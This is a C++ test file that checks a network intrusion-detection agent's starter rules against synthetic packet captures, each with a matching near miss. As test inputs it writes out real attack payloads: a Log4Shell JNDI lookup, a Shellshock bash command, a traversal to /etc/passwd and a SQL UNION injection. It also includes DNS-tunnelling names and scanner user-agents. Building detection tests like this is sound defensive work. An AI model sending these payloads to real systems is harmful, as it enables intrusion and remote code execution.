// The starter rule set in rules/network/: every rule fires on a capture
// built here and stays quiet on a near miss, through the real
// `rampart-agent replay --rules` (capture, decode, flow, reassembly,
// app-layer parsers and the detection engine).
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <nlohmann/json.hpp>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "tests/testing/packets.h"
#include "tests/testing/paths.h"
#include "tests/testing/process.h"
#include "tests/testing/temp_dir.h"

namespace rampart {
namespace {

using testing::Bytes;
using testing::PacketSpec;
using testing::PcapWriter;
using testing::ProgramPath;
using testing::RunProcess;
using testing::TcpConversation;
using testing::ToBytes;

// Inside $HOME_NET (Suricata's default: RFC 1918) and outside it (documentation ranges).
constexpr const char* kInside = "10.0.0.5";
constexpr const char* kInsideServer = "10.0.0.2";
constexpr const char* kOutside = "198.51.100.7";
constexpr const char* kOutsideServer = "203.0.113.10";

using Build = std::function<void(PcapWriter*)>;

std::vector<std::string> RuleFiles() {
  std::vector<std::string> files;
  for (const auto& e : std::filesystem::directory_iterator(testing::SourceDir() + "/rules/network")) {
    if (e.path().extension() == ".rules") files.push_back(e.path().string());
  }
  std::sort(files.begin(), files.end());
  return files;
}

// Every sid in the starter set.
std::set<int> StarterSids() {
  std::set<int> sids;
  const std::regex sid_re(R"(\bsid\s*:\s*(\d+)\s*;)");
  for (const std::string& f : RuleFiles()) {
    std::ifstream in(f);
    std::string line;
    while (std::getline(in, line)) {
      if (line.empty() || line[0] == '#') continue;
      std::smatch m;
      if (std::regex_search(line, m, sid_re)) sids.insert(std::stoi(m[1]));
    }
  }
  return sids;
}

// Replays `pcap` with the starter set; alert counts by sid.
std::map<int, int> Alerts(const std::string& pcap, const std::string& eve) {
  std::vector<std::string> argv = {ProgramPath("rampart-agent"), "replay", pcap, "--eve", eve, "-q"};
  for (const std::string& f : RuleFiles()) {
    argv.push_back("--rules");
    argv.push_back(f);
  }
  const auto r = RunProcess(argv, std::chrono::seconds(60));
  EXPECT_EQ(r.exit_code, 0) << r.err;
  std::map<int, int> alerts;
  std::ifstream in(eve);
  std::string line;
  while (std::getline(in, line)) {
    const auto j = nlohmann::json::parse(line, nullptr, false);
    if (j.is_discarded()) {
      ADD_FAILURE() << "EVE line is not JSON: " << line;
      continue;
    }
    if (j.value("event_type", "") != "alert") continue;
    alerts[j["alert"]["signature_id"].get<int>()]++;
  }
  return alerts;
}

// --- capture builders ------------------------------------------------------

void AddAll(PcapWriter* w, const std::vector<Bytes>& frames) {
  for (const Bytes& f : frames) w->Add(f);
}

Bytes TcpPacket(const char* src, uint16_t sport, const char* dst, uint16_t dport, uint8_t flags) {
  PacketSpec s;
  s.src = src;
  s.dst = dst;
  s.sport = sport;
  s.dport = dport;
  s.tcp_flags = flags;
  s.seq = 123456;
  s.ack = (flags & 0x10) ? 654321 : 0;
  return testing::BuildEthernet(s);
}

// `count` SYNs from one source to `dst`, to `dport` or (dport 0) to consecutive ports.
Build Syns(int count, uint16_t dport) {
  return [count, dport](PcapWriter* w) {
    for (int i = 0; i < count; ++i) {
      const uint16_t port = dport != 0 ? dport : static_cast<uint16_t>(1000 + i);
      w->Add(TcpPacket(kOutside, static_cast<uint16_t>(50000 + i), kInsideServer, port, 0x02));
    }
  };
}

Bytes Icmp(uint8_t type, std::string_view payload) {
  PacketSpec s;
  s.src = kOutside;
  s.dst = kInsideServer;
  s.proto = 1;
  s.icmp_type = type;
  s.icmp_code = 0;
  s.payload = ToBytes(payload);
  return testing::BuildEthernet(s);
}

// A TCP conversation: client lines, each answered by the server, then closed.
struct Exchange {
  std::string client;  // Sent by the client (may be empty).
  std::string server;  // The server's answer (may be empty).
};
Build Tcp(const char* client, const char* server, uint16_t port, std::vector<Exchange> exchanges) {
  return [=](PcapWriter* w) {
    TcpConversation c(client, 41000, server, port);
    AddAll(w, c.Handshake());
    for (const Exchange& e : exchanges) {
      if (!e.client.empty()) AddAll(w, c.Client(e.client));
      if (!e.server.empty()) AddAll(w, c.Server(e.server));
    }
    AddAll(w, c.Close());
  };
}

// One HTTP/1.1 exchange.
Build Http(const char* client, const char* server, std::string request, std::string response_body = "ok") {
  const std::string response = "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: " +
                               std::to_string(response_body.size()) + "\r\n\r\n" + response_body;
  return Tcp(client, server, 80, {{std::move(request), response}});
}

// A request to a server inside $HOME_NET from outside (attacks on our servers).
Build Inbound(std::string request) { return Http(kOutside, kInsideServer, std::move(request)); }
// A request from a client inside $HOME_NET to an outside server.
Build Outbound(std::string request, std::string response_body = "ok") {
  return Http(kInside, kOutsideServer, std::move(request), std::move(response_body));
}

std::string Get(std::string_view uri, std::string_view user_agent, std::string_view extra = "") {
  return std::string("GET ") + std::string(uri) + " HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: " +
         std::string(user_agent) + "\r\n" + std::string(extra) + "Accept: */*\r\n\r\n";
}
std::string Post(std::string_view uri, std::string_view body, std::string_view extra = "") {
  return std::string("POST ") + std::string(uri) +
         " HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 "
         "Firefox/128.0\r\nContent-Type: application/x-www-form-urlencoded\r\n" +
         std::string(extra) + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + std::string(body);
}
constexpr const char* kBrowser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

// DNS A queries for `names` from a client inside $HOME_NET, each answered with NXDOMAIN.
Build Dns(std::vector<std::string> names) {
  return [names](PcapWriter* w) {
    uint16_t id = 0x1200;
    for (const std::string& name : names) {
      Bytes q = {static_cast<uint8_t>(id >> 8), static_cast<uint8_t>(id), 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
      size_t start = 0;
      while (start <= name.size()) {
        size_t dot = name.find('.', start);
        if (dot == std::string::npos) dot = name.size();
        q.push_back(static_cast<uint8_t>(dot - start));
        q.insert(q.end(), name.begin() + static_cast<long>(start), name.begin() + static_cast<long>(dot));
        start = dot + 1;
      }
      q.insert(q.end(), {0, 0, 1, 0, 1});
      PacketSpec s;
      s.src = kInside;
      s.dst = kOutsideServer;
      s.proto = 17;
      s.sport = static_cast<uint16_t>(id);
      s.dport = 53;
      s.payload = q;
      w->Add(testing::BuildEthernet(s));
      Bytes a = q;
      a[2] = 0x81;
      a[3] = 0x83;  // Response, recursion available, NXDOMAIN.
      std::swap(s.src, s.dst);
      std::swap(s.sport, s.dport);
      s.payload = a;
      w->Add(testing::BuildEthernet(s));
      ++id;
    }
  };
}

// A TLS 1.2 ClientHello with server name `sni`, from a client inside $HOME_NET.
Build TlsClientHello(std::string sni) {
  return [sni](PcapWriter* w) {
    auto put16 = [](Bytes* b, size_t v) {
      b->push_back(static_cast<uint8_t>(v >> 8));
      b->push_back(static_cast<uint8_t>(v));
    };
    Bytes ext;  // server_name extension.
    put16(&ext, 0);
    put16(&ext, sni.size() + 5);
    put16(&ext, sni.size() + 3);
    ext.push_back(0);
    put16(&ext, sni.size());
    ext.insert(ext.end(), sni.begin(), sni.end());
    Bytes body = {0x03, 0x03};
    for (int i = 0; i < 32; ++i) body.push_back(static_cast<uint8_t>(i * 7));
    body.push_back(0);                           // session id
    body.insert(body.end(), {0, 4, 0xc0, 0x2f, 0x00, 0x9c});  // cipher suites
    body.insert(body.end(), {1, 0});             // compression
    put16(&body, ext.size());
    body.insert(body.end(), ext.begin(), ext.end());
    Bytes hs = {0x01, 0, static_cast<uint8_t>(body.size() >> 8), static_cast<uint8_t>(body.size())};
    hs.insert(hs.end(), body.begin(), body.end());
    Bytes record = {0x16, 0x03, 0x01};
    put16(&record, hs.size());
    record.insert(record.end(), hs.begin(), hs.end());
    TcpConversation c(kInside, 41000, kOutsideServer, 443);
    AddAll(w, c.Handshake());
    AddAll(w, c.Client(std::string(record.begin(), record.end())));
    AddAll(w, c.Server(std::string("\x15\x03\x03\x00\x02\x02\x28", 7)));  // handshake_failure alert
    AddAll(w, c.Close());
  };
}

std::string PeFile() {
  std::string pe = "MZ";
  pe.append(58, '\x90');
  pe += std::string("\x80\x00\x00\x00", 4);  // e_lfanew
  pe.append(64, '\0');
  pe += std::string("PE\0\0", 4);
  pe += std::string("\x4c\x01\x03\x00", 4);
  pe.append(200, '\0');
  return pe;
}

struct RuleCase {
  int sid;                // The rule this case covers.
  Build hit;              // Fires it ...
  Build miss;             // ... and a near miss that does not.
  int hit_alerts = 1;     // Alerts of `alert_sid` expected on `hit`.
  int alert_sid = 0;      // The sid that alerts (0: `sid`); for a noalert rule, the rule it enables.
};

std::vector<RuleCase> Cases() {
  const std::string long_label(55, 'q');
  const std::string label45(45, 'z');
  const std::string hex34 = "0123456789abcdef0123456789abcdef01";
  return {
      // scan.rules
      {4100001, [](PcapWriter* w) { w->Add(TcpPacket(kOutside, 50001, kInsideServer, 80, 0x00)); },
       [](PcapWriter* w) { w->Add(TcpPacket(kOutside, 50001, kInsideServer, 80, 0x02)); }},
      {4100002, [](PcapWriter* w) { w->Add(TcpPacket(kOutside, 50001, kInsideServer, 80, 0x29)); },
       [](PcapWriter* w) { w->Add(TcpPacket(kOutside, 50001, kInsideServer, 80, 0x19)); }},
      {4100003, [](PcapWriter* w) { w->Add(TcpPacket(kOutside, 50001, kInsideServer, 80, 0x01)); },
       // An ordinary close (FIN with ACK) both ways.
       Tcp(kOutside, kInsideServer, 80, {{"ping\n", "pong\n"}})},
      // Once per source and minute however many more SYNs follow; 20 is below the count.
      {4100004, Syns(80, 0), Syns(20, 0)},
      {4100005, [](PcapWriter* w) { w->Add(Icmp(8, "")); },
       [](PcapWriter* w) { w->Add(Icmp(8, std::string(56, 'p'))); }},
      {4100006, [](PcapWriter* w) { w->Add(Icmp(13, std::string(12, '\0'))); },
       [](PcapWriter* w) { w->Add(Icmp(14, std::string(12, '\0'))); }},
      {4100007, Syns(25, 22), Syns(5, 22)},
      // The same burst to another port does not count as RDP.
      {4100008, Syns(12, 3389), Syns(12, 3390)},
      // user-agents.rules: the tool's name elsewhere than in the User-Agent does not fire.
      {4100101, Inbound(Get("/item?id=1", "sqlmap/1.8.2#stable (https://sqlmap.org)")),
       Inbound(Get("/download/sqlmap/", kBrowser))},
      {4100102, Inbound(Get("/cgi-bin/", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)")),
       Inbound(Get("/nikto.html", kBrowser))},
      {4100103, Inbound(Get("/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")),
       Inbound(Get("/", kBrowser, "Referer: http://example.org/Nmap Scripting Engine\r\n"))},
      {4100104, Inbound(Get("/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)")),
       Inbound(Get("/masscan/", kBrowser))},
      {4100105, Inbound(Get("/", "Mozilla/5.0 zgrab/0.x")), Inbound(Get("/zgrab/", kBrowser))},
      {4100106, Inbound(Get("/login", "Mozilla/4.0 (Hydra)")), Inbound(Get("/hydra", "Mozilla/4.0 (compatible)"))},
      {4100107, Inbound(Get("/wp-login.php", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)")),
       Inbound(Get("/wp-login.php", kBrowser))},
      // startswith: the name later in the agent string is not the tool.
      {4100108, Inbound(Get("/admin", "gobuster/3.6")), Inbound(Get("/admin", "Mozilla/5.0 gobuster/3.6"))},
      // dns.rules
      {4100201, Dns({long_label + ".example.com"}), Dns({std::string(40, 'q') + ".example.com"})},
      {4100202, Dns({label45 + "." + label45 + "." + label45 + "." + label45 + ".example.com"}),
       Dns({label45 + "." + label45 + "." + label45 + ".example.com"})},
      {4100203, Dns({"dnscat.4a6f1b2c"}), Dns({"www.dnscat.example.com"})},
      {4100204, Dns({hex34 + ".t.example.net"}), Dns({hex34.substr(0, 31) + ".t.example.net", "ghijklmnopqrstuvwxyzghijklmnopqrstuv.example.net"})},
      // dotprefix: the provider's name itself and any name under it, nothing else.
      {4100205, Dns({"myhome.duckdns.org", "DuckDNS.org"}), Dns({"duckdns.org.example.com", "notduckdns.org"}), 2},
      // cleartext.rules
      {4100301, Outbound(Get("/intranet/", kBrowser, "Authorization: Basic dXNlcjpzZWNyZXQ=\r\n")),
       Outbound(Get("/intranet/", kBrowser, "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.x\r\n"))},
      {4100302, Outbound(Post("/login", "user=bob&password=secret")),
       Outbound(Post("/comment", "text=my+password+is+not+here&passage=3"))},
      // The user name rule only marks the flow; it shows through the password rule.
      {4100303, Tcp(kInside, kOutsideServer, 21, {{"", "220 ftp ready\r\n"}, {"USER bob\r\n", "331 password\r\n"},
                                                  {"PASS secret\r\n", "230 logged in\r\n"}}),
       Tcp(kInside, kOutsideServer, 21, {{"", "220 ftp ready\r\n"}, {"USER anonymous\r\n", "331 password\r\n"},
                                         {"PASS guest@\r\n", "230 logged in\r\n"}}),
       1, 4100304},
      // No user name first: no alert.
      {4100304, Tcp(kInside, kOutsideServer, 21, {{"", "220 ftp ready\r\n"}, {"USER alice\r\n", "331 password\r\n"},
                                                  {"PASS s3cret\r\n", "230 logged in\r\n"}}),
       Tcp(kInside, kOutsideServer, 21, {{"", "220 ftp ready\r\n"}, {"PASS s3cret\r\n", "503 login with USER first\r\n"}})},
      {4100305, Tcp(kInside, kOutsideServer, 110, {{"", "+OK POP3 ready\r\n"}, {"USER bob\r\n", "+OK\r\n"},
                                                   {"PASS secret\r\n", "+OK 2 messages\r\n"}}),
       Tcp(kInside, kOutsideServer, 110, {{"", "+OK POP3 ready <1896.697170952@dbc.mtview.ca.us>\r\n"},
                                          {"APOP bob c4c9334bac560ecc979e58001b3e22fb\r\n", "+OK\r\n"}})},
      {4100306, Tcp(kInside, kOutsideServer, 143, {{"", "* OK IMAP4rev1 ready\r\n"},
                                                   {"a001 LOGIN bob secret\r\n", "a001 OK LOGIN completed\r\n"}}),
       Tcp(kInside, kOutsideServer, 143, {{"", "* OK IMAP4rev1 ready\r\n"},
                                          {"a001 AUTHENTICATE GSSAPI\r\n", "+ \r\n"}})},
      {4100307, Tcp(kInside, kOutsideServer, 23, {{"", "login: "}, {"bob\r\n", "Password: "}, {"secret\r\n", "$ "}}),
       // The same dialogue on another port is not telnet.
       Tcp(kInside, kOutsideServer, 2323, {{"", "login: "}, {"bob\r\n", "Password: "}, {"secret\r\n", "$ "}})},
      // web.rules
      {4100401, Inbound(Get("/", kBrowser, "X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}\r\n")),
       // In a body it is not a header.
       Inbound(Post("/search", "q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D&raw=${jndi:ldap://x}"))},
      {4100402, Inbound(Get("/cgi-bin/status", "() { :; }; /bin/bash -c 'id'")),
       Inbound(Post("/upload", "function f() { return 1; }"))},
      {4100403, Inbound(Get("/static/..%2f..%2f..%2fetc/passwd", kBrowser)),
       Inbound(Get("/docs/guide/../index.html", kBrowser))},
      {4100404, Inbound(Get("/item?id=1+UNION+ALL+SELECT+password,2+FROM+users", kBrowser)),
       Inbound(Get("/news?q=union+selection+2026", kBrowser))},
      {4100405, Outbound(Get("/setup.exe", kBrowser), PeFile()),
       // "MZ" not at the start of the body.
       Outbound(Get("/notes.txt", kBrowser), "notes: " + PeFile())},
      {4100406, TlsClientHello("a1b2c3d4.ngrok.io"), TlsClientHello("ngrok.io.example.com")},
  };
}

class NetworkRulesTest : public ::testing::Test {
 protected:
  testing::ScopedTempDir dir_{"network-rules"};
};

TEST_F(NetworkRulesTest, TheSetLoadsWithoutProblems) {
  std::vector<std::string> argv = {ProgramPath("rampart-agent"), "rules", "check", "--build"};
  const auto files = RuleFiles();
  ASSERT_FALSE(files.empty());
  argv.insert(argv.end(), files.begin(), files.end());
  const auto r = RunProcess(argv);
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find(std::to_string(StarterSids().size()) + " rules loaded, 0 skipped, 0 failed"), std::string::npos)
      << r.out << r.err;
}

TEST_F(NetworkRulesTest, EveryRuleHasACase) {
  std::set<int> covered;
  for (const RuleCase& c : Cases()) {
    EXPECT_TRUE(covered.insert(c.sid).second) << "two cases for sid " << c.sid;
  }
  EXPECT_EQ(covered, StarterSids());
}

TEST_F(NetworkRulesTest, EachRuleFiresOnItsCaptureAndNotOnTheNearMiss) {
  for (const RuleCase& c : Cases()) {
    SCOPED_TRACE("sid " + std::to_string(c.sid));
    const int alert_sid = c.alert_sid != 0 ? c.alert_sid : c.sid;
    const std::string name = std::to_string(c.sid);
    {
      PcapWriter w(dir_.File(name + "-hit.pcap"));
      c.hit(&w);
      ASSERT_TRUE(w.Close().ok());
      const auto alerts = Alerts(dir_.File(name + "-hit.pcap"), dir_.File(name + "-hit.json"));
      EXPECT_EQ(alerts.count(alert_sid) ? alerts.at(alert_sid) : 0, c.hit_alerts);
    }
    {
      PcapWriter w(dir_.File(name + "-miss.pcap"));
      c.miss(&w);
      ASSERT_TRUE(w.Close().ok());
      const auto alerts = Alerts(dir_.File(name + "-miss.pcap"), dir_.File(name + "-miss.json"));
      // The near miss raises nothing from the whole set.
      for (const auto& [sid, n] : alerts) ADD_FAILURE() << "near miss fired sid " << sid << " " << n << " times";
    }
  }
}

// Alerts carry the rule's text and Suricata's fields.
TEST_F(NetworkRulesTest, AlertRecordsCarryTheRule) {
  PcapWriter w(dir_.File("ua.pcap"));
  Inbound(Get("/item?id=1", "sqlmap/1.8.2#stable (https://sqlmap.org)"))(&w);
  ASSERT_TRUE(w.Close().ok());
  ASSERT_EQ(Alerts(dir_.File("ua.pcap"), dir_.File("ua.json"))[4100101], 1);
  std::ifstream in(dir_.File("ua.json"));
  std::string line;
  bool seen = false;
  while (std::getline(in, line)) {
    const auto j = nlohmann::json::parse(line);
    if (j.value("event_type", "") != "alert") continue;
    seen = true;
    EXPECT_EQ(j["alert"]["signature"], "RAMPART UA sqlmap SQL injection tool");
    EXPECT_EQ(j["alert"]["category"], "Web Application Attack");
    EXPECT_EQ(j["alert"]["severity"], 1);
    EXPECT_EQ(j["alert"]["action"], "allowed");
    EXPECT_EQ(j["app_proto"], "http");
    EXPECT_EQ(j["src_ip"], kOutside);
    EXPECT_EQ(j["dest_ip"], kInsideServer);
    EXPECT_EQ(j["dest_port"], 80);
    EXPECT_EQ(j["http"]["http_user_agent"], "sqlmap/1.8.2#stable (https://sqlmap.org)");
  }
  EXPECT_TRUE(seen);
}

}  // namespace
}  // namespace rampart
